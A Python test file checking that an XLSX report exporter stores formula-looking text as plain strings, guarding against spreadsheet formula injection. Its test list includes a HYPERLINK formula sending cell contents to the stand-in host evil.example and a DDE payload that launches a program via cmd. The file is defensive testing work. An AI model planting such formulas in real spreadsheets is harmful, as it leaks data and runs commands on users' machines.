"""XLSX exports never carry a formula a name, a reason or any other text could smuggle in (CSV injection)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from server.reports.model import Column, Report, Sheet
from server.reports.xlsx import to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1)",
           "\t=cmd|' /C calc'!A0", "高橋 太郎"]


def test_text_that_looks_like_a_formula_is_stored_as_text_exactly() -> None:
    sheet = Sheet(name="roster", title="作業員名簿", columns=[Column(f"c{i}") for i in range(len(HOSTILE))],
                  rows=[HOSTILE], styles=[""])
    report = Report(kind="roster", title="作業員名簿", site="90000000000001", site_name="現場", period="2026-10",
                    sheets=[sheet], generated="2026-11-30T00:00:00Z")
    ws = load_workbook(io.BytesIO(to_xlsx(report)))["roster"]
    found = [c for row in ws.iter_rows() for c in row if c.value in HOSTILE]
    assert {c.value for c in found} == set(HOSTILE)
    assert all(c.data_type == "s" for c in found), [(c.value, c.data_type) for c in found]
